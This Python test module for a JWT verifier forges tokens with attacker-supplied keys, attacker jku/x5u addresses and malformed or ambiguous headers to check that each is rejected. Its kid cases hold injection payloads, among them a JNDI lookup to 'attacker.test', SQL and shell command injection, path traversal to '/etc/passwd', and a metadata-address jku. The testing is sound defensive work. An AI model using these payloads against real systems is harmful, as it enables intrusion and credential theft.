"""Headers that bring or choose a key, change the reading, or are read in two ways.

RFC 8725, sections 2.4, 2.6, 2.9, 3.6, 3.7, 3.10 and 3.11; RFC 7515, sections 4.1, 10.3 and 10.12; RFC 7797.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
from collections.abc import Callable
from functools import cache, partial
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from frost_sidecar.encoding import b64url
from tests.token_attacks.case import UNKNOWN, Case, span
from tests.token_attacks.forge import PUBLIC, Forge, as_json

H: Final = "token-header"
M: Final = "token-malformed"
S: Final = "token-signature"


# --- keys in the header -----------------------------------------------------------------------------------------------


def _own_key(forge: Forge, **members: Any) -> str:
    """Signed by the attacker, whose key the header brings along or points to."""
    return forge.token(sign=lambda data: forge.attacker.sign(forge.algorithm, data), **members)


def _jwk(forge: Forge) -> dict[str, object]:
    if forge.algorithm == "HS256":
        return {"kty": "oct", "k": b64url(forge.attacker.secret)}
    return forge.attacker.jwk(forge.algorithm)


@cache
def _certificate(key: rsa.RSAPrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = dt.datetime.now(dt.UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, now, now + dt.timedelta(days=1))
    return builder.sign(key, hashes.SHA256()).public_bytes(Encoding.DER)


def _x5c(forge: Forge) -> str:
    return _own_key(forge, x5c=[base64.b64encode(_certificate(forge.attacker.rsa)).decode()])


def _x5t(forge: Forge) -> str:
    """A certificate's digest, to choose a key by; with SHA-1 (RFC 7515, section 10.11)."""
    return _own_key(forge, x5t=b64url(hashlib.sha1(_certificate(forge.attacker.rsa)).digest()))


# --- two readings -----------------------------------------------------------------------------------------------------


def _raw_header(forge: Forge, change: Callable[[bytes], bytes]) -> str:
    return forge.token(header=change(as_json(forge.header)))


def _twice(forge: Forge, first: str, second: str) -> str:
    return forge.token(header=f'{{"alg":"{first}","kid":"{forge.header["kid"]}","alg":"{second}"}}'.encode())


def _unencoded(forge: Forge) -> str:
    """RFC 7797: the payload as it stands, which this reader would decode and that one not."""
    head = b64url(as_json({**forge.header, "b64": False, "crit": ["b64"]}))
    payload = b64url(as_json(forge.claims()))
    return f"{head}.{payload}.{b64url(forge.sign(f'{head}.{payload}'))}"


def _deep(text: bytes) -> bytes:
    return text[:-1] + b',"x":' + b"[" * 1000 + b"]" * 1000 + b"}"


CASES: Final = (
    # keys in the header
    Case("a key in jwk", lambda forge: _own_key(forge, jwk=_jwk(forge)), H, span(32)),
    Case(
        "a key in jwk, and the same kid in it",
        lambda forge: _own_key(forge, jwk={**_jwk(forge), "kid": forge.header["kid"]}),
        H,
    ),
    Case("the right key in jwk", lambda forge: forge.token(jwk=forge.keys.jwk(forge.algorithm)), H, algorithms=PUBLIC),
    Case("an address in jku", lambda forge: _own_key(forge, jku="https://attacker.test/jwks.json"), H),
    Case("an address inside the cluster in jku", lambda forge: _own_key(forge, jku="http://169.254.169.254/"), H),
    Case("a file in jku", lambda forge: _own_key(forge, jku="file:///dev/null"), H),
    Case("an address in x5u", lambda forge: _own_key(forge, x5u="https://attacker.test/chain.pem"), H),
    Case("a certificate in x5c", _x5c, H),
    Case("an empty x5c", lambda forge: forge.token(x5c=[]), H),
    Case("a certificate's digest in x5t", _x5t, H),
    # extensions
    Case(
        "an unknown extension in crit",
        lambda forge: forge.token(crit=["example"], example=True),
        H,
    ),
    Case("exp in crit", lambda forge: forge.token(crit=["exp"], exp=9999999999), H),
    Case("an empty crit", lambda forge: forge.token(crit=[]), H),
    Case("crit that is no list", lambda forge: forge.token(crit="exp"), H),
    Case("crit that is null", lambda forge: forge.token(crit=None), H),
    Case("an unencoded payload", _unencoded, H),
    Case("b64 false without crit", lambda forge: forge.token(b64=False), H),
    Case("b64 true", lambda forge: forge.token(b64=True, crit=["b64"]), H),
    # kid
    Case(
        "no kid among several keys",
        lambda forge: forge.token(header={"alg": forge.algorithm, "typ": "JWT"}),
        "token-key",
        (),
        PUBLIC,
    ),
    *(
        Case(f"kid is {kind}", partial(_own_key, kid=kid), "token-key", (), PUBLIC)
        for kind, kid in (("null", None), ("a number", 1), ("a list", ["ed-1", "rsa-1"]), ("an object", {"$ne": None}))
    ),
    *(
        Case(f"kid: {kind}", partial(_own_key, kid=kid), "token-key", (), PUBLIC)
        for kind, kid in (
            ("unknown", "somebody-else"),
            ("a path", "../../../../dev/null"),
            ("an absolute path", "/dev/null"),
            ("a file's URL", "file:///etc/passwd"),
            ("SQL", "x' UNION SELECT 'attacker' --"),
            ("a command", "|sleep 10"),
            ("a template", "${jndi:ldap://attacker.test/a}"),
            ("a NUL in it", "ed-1\0"),
            ("a blank after it", "ed-1 "),
            ("in capitals", "ED-1"),
            ("an index", "0"),
            ("a prototype", "__proto__"),
            ("an address", "https://attacker.test/jwks.json"),
            ("empty", ""),
            ("of 4000 characters", "x" * 4000),
        )
    ),
    # two readings
    Case("none, then the right alg", lambda forge: _twice(forge, "none", forge.algorithm), M),
    Case("the right alg, then none", lambda forge: _twice(forge, forge.algorithm, "none"), M),
    Case("the right alg twice", lambda forge: _twice(forge, forge.algorithm, forge.algorithm), M),
    Case(
        "alg once more with an escape in its name",
        lambda forge: _raw_header(forge, lambda text: b'{"\\u0061lg":"none",' + text[1:]),
        M,
    ),
    Case("kid twice", lambda forge: _raw_header(forge, lambda text: b'{"kid":"x",' + text[1:]), M),
    Case("header: a list", lambda forge: _raw_header(forge, lambda text: b"[" + text + b"]"), M),
    Case("header: text after it", lambda forge: _raw_header(forge, lambda text: text + b"{}"), M),
    Case("header: a comment", lambda forge: _raw_header(forge, lambda text: b"{/**/" + text[1:]), M),
    Case("header: a comma too many", lambda forge: _raw_header(forge, lambda text: text[:-1] + b",}"), M),
    Case("header: single quotes", lambda forge: _raw_header(forge, lambda text: text.replace(b'"', b"'")), M),
    Case("header: a byte order mark", lambda forge: _raw_header(forge, lambda text: b"\xef\xbb\xbf" + text), M),
    Case("header: UTF-16", lambda forge: _raw_header(forge, lambda text: text.decode().encode("utf-16")), M),
    Case("header: not UTF-8", lambda forge: _raw_header(forge, lambda text: text[:-1] + b',"x":"\xff"}'), M),
    Case("header: overlong UTF-8", lambda forge: _raw_header(forge, lambda text: text[:-1] + b',"x":"\xc0\xaf"}'), M),
    Case(
        "header: half a surrogate pair",
        lambda forge: _raw_header(forge, lambda text: text[:-1] + b',"x":"\\ud800"}'),
        M,
    ),
    Case("header: a NUL in it", lambda forge: _raw_header(forge, lambda text: text.replace(b"JWT", b"J\0T")), M),
    Case("header: NaN", lambda forge: _raw_header(forge, lambda text: text[:-1] + b',"x":NaN}'), M),
    Case("header: nested 1000 deep", lambda forge: _raw_header(forge, _deep), M),
    Case("header: empty object", lambda forge: _raw_header(forge, lambda _text: b"{}"), M),
    Case(
        "blanks in the header's JSON",
        lambda forge: forge.token(header=json.dumps(forge.header, indent=1).encode()),
        None,
        span(376),
    ),
    Case(
        "line breaks in the header's JSON",
        lambda forge: _raw_header(forge, lambda text: text.replace(b",", b",\n\t")),
        None,
        span(377),
    ),
    # others
    Case("typ of another kind of token", lambda forge: forge.token(typ="secevent+jwt"), H),
    Case("typ that is a number", lambda forge: forge.token(typ=1), H),
    Case("typ JOSE+JSON", lambda forge: forge.token(typ="JOSE+JSON"), H),
    Case("typ as a media type", lambda forge: forge.token(typ="application/JWT"), None),
    Case("no typ", lambda forge: forge.token(header={each: forge.header[each] for each in ("alg", "kid")}), None),
    Case("a nested token announced", lambda forge: forge.token(cty="JWT"), H),
    Case("a key of one's own for an encryption", lambda forge: forge.token(epk=_jwk(forge)), H),
    Case("compressed", lambda forge: forge.token(zip="DEF"), H),
    Case("an encryption named in a signed token", lambda forge: forge.token(enc="A256GCM"), H),
    Case(
        "ten million rounds of PBES2",
        lambda forge: forge.token(alg="PBES2-HS256+A128KW", p2c=10_000_000, p2s="AAAA"),
        UNKNOWN,
    ),
)
